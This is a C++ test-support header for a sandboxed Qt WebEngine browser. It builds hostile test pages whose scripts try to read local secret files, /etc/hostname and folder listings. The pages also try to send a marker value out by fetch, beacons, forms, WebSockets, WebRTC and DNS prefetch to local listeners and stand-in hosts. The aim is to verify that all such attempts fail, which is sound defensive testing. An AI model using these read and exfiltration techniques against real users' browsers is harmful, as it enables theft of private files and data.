#pragma once
// A site on disk for the checks of the untrusted browser: a page folder with the page's own
// image, style sheet, script and frame, secrets beside the page and in another folder, and
// pages whose script tries to read them or to send something out. Each attempt reports into
// window.results (name -> "READ:<what it got>" or why it got nothing); the page's title
// becomes "done" once every attempt has settled.
#include "TestSupport.h"

#include <gtest/gtest.h>

#include <QDir>
#include <QByteArray>
#include <QFile>
#include <QImage>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkDatagram>
#include <QString>
#include <QStringList>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>
#include <QUrl>
#include <QVariant>
#include <QWebEnginePage>
#include <optional>
#include <tuple>

namespace hostilepage {

struct TSite {
    QString folder;  // the page's folder
    QString other;   // another folder
    // The text of every secret the pages try to read.
    QStringList secrets;
};

// Counts what reaches a TCP and a UDP port on 127.0.0.1.
class TListeners {
public:
    TListeners()
    {
        tcp_.listen(QHostAddress::AnyIPv4);
        udp_.bind(QHostAddress::AnyIPv4);
        QObject::connect(&tcp_, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = tcp_.nextPendingConnection()) {
                ++received;
                s->deleteLater();
            }
        });
        QObject::connect(&udp_, &QUdpSocket::readyRead, [this] {
            while (udp_.hasPendingDatagrams()) {
                udp_.receiveDatagram();
                ++received;
            }
        });
    }
    quint16 TcpPort() const { return tcp_.serverPort(); }
    quint16 UdpPort() const { return udp_.localPort(); }
    // Whether a connection and a datagram of the test's own, to host, are heard.
    bool Hear(const QString& host = QStringLiteral("127.0.0.1"))
    {
        const int before = received;
        QTcpSocket socket;
        socket.connectToHost(QHostAddress(host), TcpPort());
        QUdpSocket().writeDatagram("x", QHostAddress(host), UdpPort());
        return testsupport::WaitFor([&] { return received == before + 2; }, 10000);
    }
    int received = 0;

private:
    QTcpServer tcp_;
    QUdpSocket udp_;
};

inline bool WriteFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

inline QString FileUrl(const QString& path)
{
    return QUrl::fromLocalFile(path).toString(QUrl::FullyEncoded);
}

// Writes the site under root (a fresh folder).
inline TSite MakeSite(const QString& root)
{
    TSite site{root + QStringLiteral("/site"), root + QStringLiteral("/other"), {}};
    QDir().mkpath(site.folder);
    QDir().mkpath(site.other + QStringLiteral("/folder"));
    QImage image(4, 3, QImage::Format_RGB32);
    image.fill(Qt::red);
    image.save(site.folder + QStringLiteral("/pic.png"));
    WriteFile(site.folder + QStringLiteral("/style.css"), "body { background-color: rgb(1, 2, 3); }\n");
    WriteFile(site.folder + QStringLiteral("/own.js"), "window.ownScript = 'ran';\n");
    // The page's own frame, with its own image: it tells its parent the image's width.
    WriteFile(site.folder + QStringLiteral("/frame.htm"),
              "<html><body><img id=i src='pic.png' onload='parent.postMessage(\"frame image \" + "
              "this.naturalWidth, \"*\")'></body></html>");
    // Secrets: plain names, so a script's error message would carry them.
    const QList<std::tuple<QString, QString, QString>> secrets = {
        {site.folder + QStringLiteral("/beside.txt"), QStringLiteral("SECRET_BESIDE"), QStringLiteral("%1")},
        {site.folder + QStringLiteral("/data.json"), QStringLiteral("SECRET_JSON"), QStringLiteral("{\"k\": \"%1\"}")},
        {site.other + QStringLiteral("/secret.txt"), QStringLiteral("SECRET_OTHER"), QStringLiteral("%1")},
        {site.other + QStringLiteral("/secret.htm"), QStringLiteral("SECRET_FRAME"), QStringLiteral("<p>%1</p>")},
        {site.other + QStringLiteral("/folder/SECRET_LISTED.txt"), QStringLiteral("SECRET_LISTED"),
         QStringLiteral("%1")},
    };
    for (const auto& [path, secret, text] : secrets) {
        WriteFile(path, text.arg(secret).toUtf8());
        site.secrets << secret;
    }
    return site;
}

// Settles a promise as an attempt, with a time limit; used by every page below.
inline const char* kAttemptScript = R"JS(
window.results = {};
const pending = [];
function attempt(name, run) {
  const limit = new Promise(r => setTimeout(() => r('no answer'), 4000));
  let p;
  try { p = Promise.resolve(run()); } catch (e) { p = Promise.reject(e); }
  pending.push(Promise.race([p, limit]).then(v => { results[name] = String(v); },
                                              e => { results[name] = 'refused: ' + e; }));
}
const asText = r => r.text().then(t => 'READ:' + t);
function frameText(src, tag) {
  return new Promise(resolve => {
    const f = document.createElement(tag || 'iframe');
    if (tag === 'object') f.data = src; else f.src = src;
    f.onload = () => { try { resolve('READ:' + f.contentDocument.body.innerText); }
                       catch (e) { resolve('refused: ' + e); } };
    f.onerror = () => resolve('refused');
    document.body.appendChild(f);
  });
}
function settled(extraMs) {
  Promise.all(pending).then(() => setTimeout(() => { document.title = 'done'; }, extraMs || 0));
}
)JS";

// The page's own files: its image, style sheet and script, and its frame, whose own image
// loads (the frame posts its width).
inline QString OwnFilesMarkup()
{
    return QStringLiteral(
        "<link rel=stylesheet href='style.css'><script src='own.js'></script>"
        "<script>window.frameReport = ''; addEventListener('message', e => { frameReport = e.data; });</script>"
        "<img id=own src='pic.png'><iframe id=ownFrame src='frame.htm'></iframe>");
}

// A page (with a <HEAD> for the base tag) whose script tries every read of a file, of the
// program's page at programPage and of the document at documentUrl; before goes first in its
// body.
inline QString ReadsPage(const TSite& site, const QString& programPage, const QString& documentUrl,
                         const QString& before = {})
{
    QString script = QString::fromLatin1(kAttemptScript) + QStringLiteral(R"JS(
attempt('fetch of a file beside the page', () => fetch('beside.txt').then(asText));
attempt('XMLHttpRequest of a file in another folder', () => {
  const x = new XMLHttpRequest(); x.open('GET', OTHER + '/secret.txt', false); x.send();
  return 'READ:' + x.responseText; });
attempt('fetch of /etc/hostname', () => fetch('file:///etc/hostname').then(asText));
attempt('fetch of a folder listing', () => fetch(OTHER + '/folder/').then(asText));
attempt('fetch through the local-file scheme', () => fetch(OTHER.replace('file:', 'vesk-file:') + '/secret.txt').then(asText));
attempt('a frame of a page in another folder', () => frameText(OTHER + '/secret.htm'));
attempt('a frame of a text file beside the page', () => frameText('beside.txt'));
attempt('an object of a page in another folder', () => frameText(OTHER + '/secret.htm', 'object'));
attempt('a frame of a folder listing', () => frameText(OTHER + '/folder/'));
attempt("fetch of the program's page", () => fetch(PROGRAM).then(asText));
attempt("a frame of the program's page", () => frameText(PROGRAM));
attempt('fetch of another document', () => fetch(DOCUMENT).then(asText));
attempt('a frame of another document', () => frameText(DOCUMENT));
attempt('a JSON module', () => import('./data.json', {assert: {type: 'json'}}).then(m => 'READ:' + JSON.stringify(m.default)));
attempt('a CSS module of a text file', () => import(OTHER + '/secret.txt', {assert: {type: 'css'}})
  .then(m => 'READ:' + Array.from(m.default.cssRules).map(r => r.cssText).join()));
attempt('a preloaded fetch', () => {
  const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.crossOrigin = 'anonymous';
  l.href = OTHER + '/secret.txt'; document.head.appendChild(l);
  return new Promise(r => setTimeout(r, 300)).then(() => fetch(OTHER + '/secret.txt')).then(asText); });
attempt("a script's error message", () => new Promise(resolve => {
  window.onerror = m => resolve('READ:' + m);
  const s = document.createElement('script'); s.src = OTHER + '/secret.txt';
  s.onerror = () => resolve('refused'); s.onload = () => setTimeout(() => resolve('ran'), 100);
  document.head.appendChild(s); }));
attempt("a style sheet's rules of a text file", () => new Promise(resolve => {
  const l = document.createElement('link'); l.rel = 'stylesheet'; l.crossOrigin = 'anonymous';
  l.href = OTHER + '/secret.txt';
  l.onload = () => { try { resolve('READ:' + Array.from(l.sheet.cssRules).map(r => r.cssText).join()); }
                     catch (e) { resolve('refused: ' + e); } };
  l.onerror = () => resolve('refused');
  document.head.appendChild(l); }));
attempt('a worker of its own making', () => new Promise(resolve => {
  const code = 'fetch(' + JSON.stringify(OTHER + '/secret.txt') + ').then(r => r.text()).then(t => postMessage("READ:" + t), e => postMessage("refused"))';
  const w = new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
  w.onmessage = e => resolve(e.data); w.onerror = () => resolve('refused'); }));
attempt("fetch of the program's compiled resources", () => fetch('qrc:/qt-project.org/qmessagebox/images/qtlogo-64.png').then(r => 'READ:' + r.status));
settled();
)JS");
    script.replace(QStringLiteral("OTHER"), QLatin1Char('\'') + FileUrl(site.other) + QLatin1Char('\''))
        .replace(QStringLiteral("PROGRAM"), QLatin1Char('\'') + programPage + QLatin1Char('\''))
        .replace(QStringLiteral("DOCUMENT"), QLatin1Char('\'') + documentUrl + QLatin1Char('\''));
    return QStringLiteral("<html><HEAD><title>reads</title></HEAD><body>") + before + OwnFilesMarkup() +
           QStringLiteral("<script>") + script + QStringLiteral("</script></body></html>");
}

// A page whose script tries every way out to 127.0.0.1: a TCP port and a UDP port, carrying
// the word SECRET_SENT; a WebSocket to the same port on otherHost; and WebRTC servers named
// by a host name that carries the word.
inline QString ExitsPage(quint16 tcpPort, quint16 udpPort, const QString& otherHost)
{
    QString markup = QStringLiteral(R"HTML(<html><HEAD><title>exits</title>
<link rel="preconnect" href="http://127.0.0.1:@TCP@/">
<link rel="dns-prefetch" href="http://SECRET_SENT.example/">
<link rel="prefetch" href="http://127.0.0.1:@TCP@/prefetch?d=SECRET_SENT">
<style>body { background-image: url(http://127.0.0.1:@TCP@/css?d=SECRET_SENT); }</style>
</HEAD><body>
<img src="http://127.0.0.1:@TCP@/img?d=SECRET_SENT">
<iframe name=sink></iframe>
<form id=form method=post action="http://127.0.0.1:@TCP@/form" target=sink><input name=d value=SECRET_SENT></form>
<script>)HTML") + QString::fromLatin1(kAttemptScript) +
                     QStringLiteral(R"JS(
const ws = url => new Promise((resolve, reject) => {
  const s = new WebSocket(url); s.onopen = () => resolve('open'); s.onerror = () => reject('error'); });
attempt('a WebSocket', () => ws('ws://127.0.0.1:@TCP@/?d=SECRET_SENT'));
attempt('a WebSocket to another host', () => ws('ws://@OTHER@:@TCP@/?d=SECRET_SENT'));
attempt('a WebSocket to a host by name', () => ws('ws://secret-sent.invalid:@TCP@/?d=SECRET_SENT'));
attempt('a secure WebSocket', () => ws('wss://127.0.0.1:@TCP@/?d=SECRET_SENT'));
attempt('fetch over http', () => fetch('http://127.0.0.1:@TCP@/fetch?d=SECRET_SENT', {mode: 'no-cors'}).then(() => 'sent'));
attempt('a beacon', () => navigator.sendBeacon('http://127.0.0.1:@TCP@/beacon', 'SECRET_SENT') ? 'queued' : 'refused');
attempt('an event source', () => new Promise((resolve, reject) => {
  const e = new EventSource('http://127.0.0.1:@TCP@/events?d=SECRET_SENT'); e.onopen = () => resolve('open'); e.onerror = () => reject('error'); }));
attempt('a form', () => { document.getElementById('form').submit(); return 'submitted'; });
attempt('WebRTC', () => new Promise(resolve => {
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@UDP@'},
    {urls: 'turn:127.0.0.1:@TCP@?transport=tcp', username: 'SECRET_SENT', credential: 'x'},
    {urls: 'turn:127.0.0.1:@UDP@?transport=udp', username: 'SECRET_SENT', credential: 'x'},
    {urls: 'stun:secret-sent.invalid:@UDP@'},
    {urls: 'turn:secret-sent.invalid:@TCP@?transport=tcp', username: 'SECRET_SENT', credential: 'x'}]});
  pc.createDataChannel('d');
  pc.onicecandidate = e => { if (!e.candidate) resolve('gathered'); };
  pc.createOffer().then(o => pc.setLocalDescription(o));
  setTimeout(() => resolve('gathering'), 3000); }));
attempt('WebTransport', () => new WebTransport('https://127.0.0.1:@UDP@/?d=SECRET_SENT').ready.then(() => 'open'));
settled(1000);
</script></body></html>)JS");
    return markup.replace(QStringLiteral("@TCP@"), QString::number(tcpPort))
        .replace(QStringLiteral("@UDP@"), QString::number(udpPort))
        .replace(QStringLiteral("@OTHER@"), otherHost);
}

// Runs script in page and gives its value.
inline QVariant Eval(QWebEnginePage* page, const QString& script, int timeoutMs = 30000)
{
    std::optional<QVariant> result;
    page->runJavaScript(script, [&](const QVariant& v) { result = v; });
    EXPECT_TRUE(testsupport::WaitFor([&] { return result.has_value(); }, timeoutMs)) << script.toStdString();
    return result.value_or(QVariant());
}

// The results of a page's attempts, once all have settled.
inline QJsonObject Results(QWebEnginePage* page, int timeoutMs = 30000)
{
    EXPECT_TRUE(testsupport::WaitFor([&] { return page->title() == QStringLiteral("done"); }, timeoutMs));
    return QJsonDocument::fromJson(Eval(page, QStringLiteral("JSON.stringify(results)")).toString().toUtf8()).object();
}

// No attempt of the page read anything, and no secret shows in the results or the page.
inline void ExpectNothingRead(QWebEnginePage* page, const TSite& site)
{
    const QJsonObject results = Results(page);
    ASSERT_FALSE(results.isEmpty());
    for (auto it = results.begin(); it != results.end(); ++it)
        EXPECT_FALSE(it.value().toString().startsWith(QStringLiteral("READ:")))
            << it.key().toStdString() << ": " << it.value().toString().toStdString();
    const QString all = QString::fromUtf8(QJsonDocument(results).toJson()) +
                        Eval(page, QStringLiteral("document.body.innerText")).toString();
    for (const QString& secret : site.secrets) EXPECT_FALSE(all.contains(secret)) << secret.toStdString();
}

}  // namespace hostilepage
